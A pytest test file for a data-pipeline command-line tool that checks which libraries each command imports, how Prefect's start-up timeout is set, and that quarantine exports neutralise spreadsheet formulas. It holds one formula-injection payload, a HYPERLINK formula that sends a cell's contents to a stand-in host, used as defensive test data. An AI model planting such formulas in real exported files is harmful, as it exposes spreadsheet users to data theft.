"""Read-only commands import only what they use: no Prefect, so no flow server; flow commands get Prefect's
start-up timeout from the settings before Prefect is imported."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from contracts.settings import Settings
from pipelines.cli import app
from pipelines.runtime import open_warehouse
from warehouse.tables import quarantine

# Commands run one after another in one fresh interpreter; after each it prints the exit code, its output,
# whether Prefect and MLflow have been imported so far, and the Prefect variable the command line prepared.
PROBE = """
import json, os, sys
from typer.testing import CliRunner
from pipelines.cli import app
for args in json.loads(sys.argv[1]):
    result = CliRunner().invoke(app, args)
    print(json.dumps({"exit": result.exit_code, "output": result.output, "prefect": "prefect" in sys.modules,
                      "mlflow": "mlflow" in sys.modules,
                      "timeout": os.environ.get("PREFECT_SERVER_EPHEMERAL_STARTUP_TIMEOUT_SECONDS")}))
"""


def _probe(commands: list[list[str]], env: dict[str, str] | None = None) -> list[dict[str, object]]:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("FENGQIAO_", "PREFECT_"))}
    done = subprocess.run(
        [sys.executable, "-c", PROBE, json.dumps(commands)],
        capture_output=True,
        text=True,
        env={**base, **(env or {})},
    )
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in done.stdout.strip().splitlines()[-len(commands) :]]


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home with a store (one quarantined entry) and no model."""
    folder = tmp_path_factory.mktemp("overhead") / "home"
    with open_warehouse(Settings(home=folder)).transaction() as connection:
        connection.execute(
            quarantine.insert().values(
                run_id="r1",
                kind="cases",
                source_file="cases.csv",
                source_path="/in/cases.csv",
                row=2,
                field="town",
                value='=HYPERLINK("http://x/?d="&B2,"详情")',
                reason="bad town",
                quarantined_at=pd.Timestamp("2025-03-01"),
            )
        )
    return folder


# Read-only commands and their exit codes; those that read no model come first (MLflow not loaded yet).
READ_ONLY = [
    (["quarantine"], 0),
    (["users", "list"], 0),
    (["users", "remove", "nobody"], 1),
    (["dictionary", "--out", "{home}/dictionary.md"], 0),
    (["settings"], 0),
    (["models"], 0),
    (["promote", "3"], 1),
    (["rollback"], 1),
]
WITHOUT_MLFLOW = 5


@pytest.fixture(scope="module")
def read_only_runs(home: Path) -> list[dict[str, object]]:
    """What each read-only command did, run in order in one fresh interpreter."""
    commands = [["--home", str(home), *(a.format(home=home) for a in args)] for args, _ in READ_ONLY]
    return _probe(commands)


@pytest.mark.slow
@pytest.mark.parametrize("index", range(len(READ_ONLY)), ids=[" ".join(a) for a, _ in READ_ONLY])
def test_read_only_commands_do_not_import_prefect(
    read_only_runs: list[dict[str, object]], index: int
) -> None:
    seen = read_only_runs[index]
    assert seen["exit"] == READ_ONLY[index][1], seen["output"]
    assert seen["prefect"] is False
    assert seen["timeout"] is None  # not a flow command: nothing prepared
    assert seen["mlflow"] is (index >= WITHOUT_MLFLOW)


@pytest.mark.slow
def test_dictionary_is_written(home: Path, read_only_runs: list[dict[str, object]]) -> None:
    assert (home / "dictionary.md").read_text(encoding="utf-8").startswith("#")


@pytest.mark.slow
def test_flow_commands_set_the_startup_timeout_before_prefect(tmp_path: Path) -> None:
    """`ingest` with a short key is refused before any flow starts, with Prefect's timeout already set."""
    ingest = [["--home", str(tmp_path), "ingest", str(tmp_path)]]
    refused = {"FENGQIAO_PSEUDONYM_KEY": "short"}
    (seen,) = _probe(ingest, refused)
    assert seen["exit"] == 1 and "is 5 bytes; at least 32" in " ".join(str(seen["output"]).split())
    assert seen["prefect"] is False and seen["timeout"] == "300"
    mine = {**refused, "FENGQIAO_PREFECT_STARTUP_TIMEOUT_SECONDS": "45"}
    assert _probe(ingest, mine)[0]["timeout"] == "45"
    prefects = {**mine, "PREFECT_SERVER_EPHEMERAL_STARTUP_TIMEOUT_SECONDS": "77"}  # Prefect's own wins
    assert _probe(ingest, prefects)[0]["timeout"] == "77"


@pytest.mark.slow
def test_prefect_reads_the_prepared_timeout() -> None:
    script = (
        "from contracts.settings import Settings\n"
        "from pipelines.prefect_runtime import prepare_prefect\n"
        "assert prepare_prefect(Settings(prefect_startup_timeout_seconds=123))\n"
        "from prefect.settings import PREFECT_SERVER_EPHEMERAL_STARTUP_TIMEOUT_SECONDS as timeout\n"
        "print(timeout.value())\n"
    )
    base = {k: v for k, v in os.environ.items() if not k.startswith("PREFECT_")}
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, env=base, check=True
    )
    assert done.stdout.strip() == "123"


def test_quarantine_export_neutralises_formulas(home: Path, tmp_path: Path) -> None:
    out = tmp_path / "quarantine.csv"
    result = CliRunner().invoke(app, ["--home", str(home), "quarantine", "--export", str(out)])
    assert result.exit_code == 0, result.output
    exported = pd.read_csv(out, encoding="utf-8-sig")
    assert exported["value"].tolist() == ['\'=HYPERLINK("http://x/?d="&B2,"详情")']
    assert exported["row"].tolist() == [2]  # numbers unchanged
